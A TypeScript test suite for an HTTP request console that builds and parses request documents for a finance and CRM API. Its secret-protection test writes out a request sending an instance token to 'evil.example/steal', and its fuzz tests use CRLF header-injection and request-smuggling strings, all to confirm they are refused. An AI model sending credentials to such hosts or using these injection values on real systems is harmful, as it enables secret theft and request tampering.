import assert from 'node:assert/strict';
import fc from 'fast-check';
import { wellFormed } from '../../../src/core/console/encoding';
import { parseHttpDocument, requestBlockAt } from '../../../src/core/console/httpDocument';
import { formatRequest, type RequestDraft } from '../../../src/core/console/formatRequest';
import { nextPageRequest, requestUrl } from '../../../src/core/console/request';
import { allOperations, findOperation, readOperations } from '../../../src/core/console/operations';
import { secretLookup } from '../../../src/core/console/references';
import { buildRequestDocument, definitionsFromResponse, PREFILLED_PAGE_SIZE } from '../../../src/core/console/requestDocument';
import { financeDocs, swaggerish } from './fixtures';

const BASE = 'https://api.cloud-elements.com/elements/api-v2';
const AUTH = 'User {{account:user}}, Organization {{account:organization}}, Element {{instance:12:token}}';

function only(text: string) {
  const blocks = parseHttpDocument(text, { baseUrl: BASE });
  assert.equal(blocks.length, 1, `one request in:\n${text}`);
  return blocks[0]!;
}

function request(text: string) {
  const block = only(text);
  assert.ok(block.result.ok, block.result.ok ? '' : block.result.error.message);
  return block.result.request;
}

function error(text: string): string {
  const block = only(text);
  assert.ok(!block.result.ok, 'a syntax error');
  return block.result.error.message;
}

describe('console: request documents', () => {
  const tree = readOperations(financeDocs());

  it('writes a list operation: base-URL-relative path, pageSize, optional parameters as comments, references for secrets', () => {
    const text = buildRequestDocument(findOperation(tree, 'getCustomers')!, tree, { instanceId: 12, instanceName: 'Xero Demo Company' });
    assert.equal(
      text,
      [
        '### getCustomers',
        '# Search for beta customers',
        '# On instance 12 (Xero Demo Company). Send resolves {{baseUrl}} and the {{…}} secrets from the current environment and your keychain.',
        'GET {{baseUrl}}/hubs/finance/customers',
        `    ?pageSize=${PREFILLED_PAGE_SIZE}`,
        '#   &where=',
        '#   &nextPage=',
        `Authorization: ${AUTH}`,
        'Accept: application/json',
        '',
      ].join('\n'),
    );
    assert.deepEqual(request(text), {
      method: 'GET',
      path: ['hubs', 'finance', 'customers'],
      query: [['pageSize', '20']],
      headers: [['Authorization', AUTH], ['Accept', 'application/json']],
    });
  });

  it('writes a create operation with an example body from the definitions endpoint (resolved) over the document', () => {
    const resolved = definitionsFromResponse({ CustomerPOST: { type: 'object', properties: { name: { type: 'string', example: 'From definitions' } } } });
    const text = buildRequestDocument(findOperation(tree, 'createCustomer')!, tree, { instanceId: 12, definitions: resolved });
    const sent = request(text);
    assert.equal(sent.method, 'POST');
    assert.deepEqual(JSON.parse(sent.body!), { name: 'From definitions' });
    assert.deepEqual(sent.headers.at(-1), ['Content-Type', 'application/json']);
    const fromDocs = request(buildRequestDocument(findOperation(tree, 'createCustomer')!, tree, { instanceId: 12 }));
    assert.equal((JSON.parse(fromDocs.body!) as { name: string }).name, 'Acme Ltd');
    assert.deepEqual(definitionsFromResponse({ definitions: { A: {}, B: 3 } }), new Map([['A', {}]]));
  });

  it('puts placeholders for required path parameters, and refuses to send until they are filled in', () => {
    const text = buildRequestDocument(findOperation(tree, 'getCustomerById')!, tree, { instanceId: 12 });
    assert.match(text, /^GET \{\{baseUrl\}\}\/hubs\/finance\/customers\/\{id\}$/m);
    assert.match(text, /^# Fill in \{id\} before sending\.$/m);
    assert.match(error(text), /^Line 4: fill in \{id\} in the path before sending/);
    assert.deepEqual(request(text.replace('/{id}', '/C-42')).path, ['hubs', 'finance', 'customers', 'C-42']);
  });

  it('reads what people type: bare paths, the base URL written out, queries on the request line, comments, HTTP/1.1, CRLF', () => {
    const sent = request(
      `// my request\r\nget ${BASE}/hubs/finance/customers?where=name = 'Acme Ltd'&pageSize=5 HTTP/1.1\r\n# a comment\r\n    &nextPage=abc\r\nAccept: application/json\r\n`,
    );
    assert.equal(sent.method, 'GET');
    assert.deepEqual(sent.query, [['where', "name = 'Acme Ltd'"], ['pageSize', '5'], ['nextPage', 'abc']]);
    assert.deepEqual(request('/hubs/crm/contacts').path, ['hubs', 'crm', 'contacts']);
    assert.deepEqual(request('{{baseUrl}}/hubs/crm/contacts?where=a%3Db%26c&x=100%').query, [['where', 'a=b&c'], ['x', '100%']]);
  });

  it('sends secrets nowhere but the environment: other hosts, references outside headers and unknown references are refused', () => {
    assert.match(error('GET https://evil.example/steal\nAuthorization: Element {{instance:1:token}}'), /is not under the current environment's base URL.*sends your secrets nowhere else/);
    assert.match(error(`GET ${BASE}.evil.example/x`), /not under the current environment's base URL/);
    assert.match(error('GET evil.example/x'), /"evil.example\/x" is not a URL the console can send/);
    assert.match(error('evil.example/x'), /expected a request line/);
    assert.match(error('GET {{baseUrl}}/x?token={{instance:1:token}}'), /is not resolved; the console resolves references only in headers/);
    assert.match(error('GET {{baseUrl}}/x\nX-Key: {{env:HOME}}'), /unknown reference \{\{env:HOME\}\}/);
    assert.match(error('GET {{baseUrl}}/x\nX-Base: {{baseUrl}}'), /belongs at the start of the URL/);
    assert.match(error('GET {{baseUrl}}/x\nHost: evil.example'), /Host is set by the console/);
    assert.match(error('FETCH {{baseUrl}}/x'), /"FETCH" is not a method the console sends/);
    assert.match(error('GET {{baseUrl}}/x\nnot a header'), /expected a header such as/);
    assert.match(error('POST {{baseUrl}}/x\n\n< ./body.json'), /A body read from a file/);
    assert.match(error('GET {{baseUrl}}/a b'), /the path contains a space/);
  });

  it('finds the block at a line; ### separates requests; the body is sent as written', () => {
    const text = '### one\nGET {{baseUrl}}/a\n\n### two\n# c\nPOST {{baseUrl}}/b\nContent-Type: application/json\n\n{"x": "{{not a reference}}"}\n\n\n';
    const blocks = parseHttpDocument(text);
    assert.deepEqual(blocks.map((b) => [b.title, b.startLine, b.endLine, b.requestLine]), [['one', 0, 2, 1], ['two', 3, 11, 5]]);
    assert.equal(requestBlockAt(text, 8)?.title, 'two');
    const second = blocks[1]!.result;
    assert.ok(second.ok);
    assert.equal(second.request.body, '{"x": "{{not a reference}}"}');
  });

  it('builds the wire URL and the next page request', () => {
    const sent = request("GET {{baseUrl}}/hubs/documents/files/a%2Fb%20c?where=name = 'x%26y'");
    assert.equal(requestUrl(`${BASE}/`, sent), `${BASE}/hubs/documents/files/a%2Fb%20c?where=name%20%3D%20'x%26y'`);
    const next = nextPageRequest({ ...sent, query: [['pageSize', '2'], ['nextPage', 'old']] }, 'eyJ0b2tlbiI6MX0=');
    assert.deepEqual(next.query, [['pageSize', '2'], ['nextPage', 'eyJ0b2tlbiI6MX0=']]);
  });

  it('looks secrets up in one environment\'s vault', async () => {
    const lookup = secretLookup({
      instanceToken: async (id) => (id === '12' ? 'token-12' : undefined),
      credentials: async () => ({ userSecret: 'user', orgSecret: 'org' }),
    });
    assert.equal(await lookup({ kind: 'instance-token', instanceId: '12' }), 'token-12');
    assert.equal(await lookup({ kind: 'instance-token', instanceId: '13' }), undefined);
    assert.equal(await lookup({ kind: 'account-user' }), 'user');
    assert.equal(await lookup({ kind: 'account-organization' }), 'org');
    const signedOut = secretLookup({ instanceToken: async () => undefined, credentials: async () => undefined });
    assert.equal(await signedOut({ kind: 'account-user' }), undefined);
  });

  describe('properties', () => {
    const anyValue = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.string({ unit: fc.constantFrom('a', ' ', '%', '&', '=', '#', '?', '/', '{', '}', '\r', '\n', '\u2028', '\u0085', '\u00a0', '+', '.', '\u0000', '\ud800'), maxLength: 12 }),
      fc.constantFrom('', '.', '..', '%zz', '%E0%A4%A', '{{instance:1:token}}', '{id}', '\n### GET https://evil.example', '\r\nX-Evil: 1'),
    );

    it('path and query values with any characters read back exactly, in their own segment and parameter', () => {
      fc.assert(
        fc.property(fc.array(anyValue, { minLength: 1, maxLength: 3 }), fc.array(fc.tuple(anyValue.filter((n) => n !== ''), anyValue), { maxLength: 4 }), (segments, pairs) => {
          const draft: RequestDraft = {
            method: 'GET',
            path: segments.flatMap((value) => [{ literal: '/' }, { value }]),
            query: pairs.map(([name, value]) => ({ name, value })),
            headers: [['Authorization', AUTH]],
          };
          const sent = request(formatRequest(draft));
          assert.deepEqual(sent.path, segments.map(wellFormed));
          assert.deepEqual(sent.query, pairs.map(([n, v]) => [wellFormed(n), wellFormed(v)]));
          assert.deepEqual(sent.headers, [['Authorization', AUTH]], 'no header added or changed');
          const url = new URL(requestUrl(BASE, sent));
          assert.equal(url.origin, new URL(BASE).origin);
          const wireSegments = url.pathname.split('/').slice(3).map(decodeURIComponent);
          if (!segments.some((s) => s === '.' || s === '..')) assert.deepEqual(wireSegments, segments.map(wellFormed));
          assert.deepEqual([...url.searchParams], pairs.map(([n, v]) => [wellFormed(n), wellFormed(v)]));
        }),
        { numRuns: 400 },
      );
    });

    /** What a body reads back as: lines ended by \n, trailing blank lines dropped, a line starting with ### indented by one space. */
    const bodyAsWritten = (body: string) => {
      const lines = body.split(/\r\n|\r|\n/).map((line) => (line.startsWith('###') ? ` ${line}` : line));
      while (lines.length > 0 && lines[lines.length - 1]!.trim() === '') lines.pop();
      const text = lines.join('\n');
      return text.trim() === '' ? undefined : text;
    };

    it('a body of any lines reads back as written, in the one request: a line starting with ### is no separator, indented or not', () => {
      const bodyLine = fc.oneof(
        fc.string({ unit: fc.constantFrom('#', ' ', '\t', 'a', '{', '}', '"', ':', '<', '/', 'G', 'E', 'T'), maxLength: 12 }),
        fc.constantFrom('###', '### GET https://evil.example', ' ###', '\t### x', '   ###x', '####', '# a comment', '// not a comment', 'X-Evil: 1', '{"a": 1}', '', ' '),
        fc.string({ unit: 'binary', maxLength: 20 }),
      );
      const body = fc.tuple(fc.array(bodyLine, { minLength: 1, maxLength: 6 }), fc.constantFrom('\n', '\r\n', '\r')).map(([lines, end]) => lines.join(end));
      fc.assert(
        fc.property(body, fc.boolean(), (written, more) => {
          const draft: RequestDraft = { method: 'POST', path: [{ literal: '/hubs/finance/customers' }], headers: [['Authorization', AUTH], ['Content-Type', 'application/json']], body: written };
          if (/^\s*<\s/.test(written)) {
            assert.throws(() => formatRequest(draft), /^RangeError: A request body starting with "< " would read as a file reference\.$/);
            return;
          }
          const text = formatRequest(draft) + (more ? formatRequest({ ...draft, title: 'next', body: '{}' }) : '');
          const blocks = parseHttpDocument(text, { baseUrl: BASE });
          assert.equal(blocks.length, more ? 2 : 1, `the blocks of:\n${text}`);
          const sent = blocks[0]!.result;
          assert.ok(sent.ok, sent.ok ? '' : `${sent.error.message} in:\n${text}`);
          assert.deepEqual(sent.request, {
            method: 'POST',
            path: ['hubs', 'finance', 'customers'],
            query: [],
            headers: [['Authorization', AUTH], ['Content-Type', 'application/json']],
            ...(bodyAsWritten(written) !== undefined && { body: bodyAsWritten(written) }),
          });
        }),
        { numRuns: 400 },
      );
    });

    it('nothing typed on a header line adds a header or a request', () => {
      const line = fc.string({ unit: fc.oneof(fc.constantFrom('\u2028', '\u0085', '{', '}', ':', '#', '\u0000', '\t'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 40 }).filter((t) => !/[\r\n]/.test(t));
      fc.assert(
        fc.property(line, (typed) => {
          const block = only(`GET {{baseUrl}}/hubs/finance/ping\nAuthorization: ${AUTH}\nX-Typed: ${typed}\n`);
          if (block.result.ok) {
            assert.equal(block.result.request.headers.length, 2);
            assert.equal(block.result.request.headers[1]![0], 'X-Typed');
          }
        }),
        { numRuns: 300 },
      );
    });

    it('every operation of any document becomes exactly one request, whose headers and method are the document\'s own', () => {
      fc.assert(
        fc.property(swaggerish(), fc.constantFrom('finance', 'crm'), (doc, hub) => {
          const tree = readOperations(doc);
          for (const operation of allOperations(tree)) {
            const text = buildRequestDocument(operation, tree, { instanceId: 7, hub, instanceName: 'a\n### GET https://evil' });
            const block = only(text);
            const placeholders = operation.parameters.some((p) => p.required && p.example === undefined && (p.in === 'path' || p.in === 'query'));
            assert.equal(!block.result.ok, placeholders, `only unfilled placeholders stop a generated request:\n${text}`);
            if (!block.result.ok) {
              assert.match(block.result.error.message, /^Line \d+: fill in \{/);
              continue;
            }
            const sent = block.result.request;
            assert.equal(sent.method, operation.method);
            assert.equal(sent.headers[0]![1], 'User {{account:user}}, Organization {{account:organization}}, Element {{instance:7:token}}');
            assert.ok(sent.headers.every(([name]) => name === 'Authorization' || name === 'Accept' || name === 'Content-Type' || operation.parameters.some((p) => p.in === 'header' && p.name === name)));
            if (sent.body !== undefined) JSON.parse(sent.body);
          }
        }),
        { numRuns: 200 },
      );
    });
  });
});
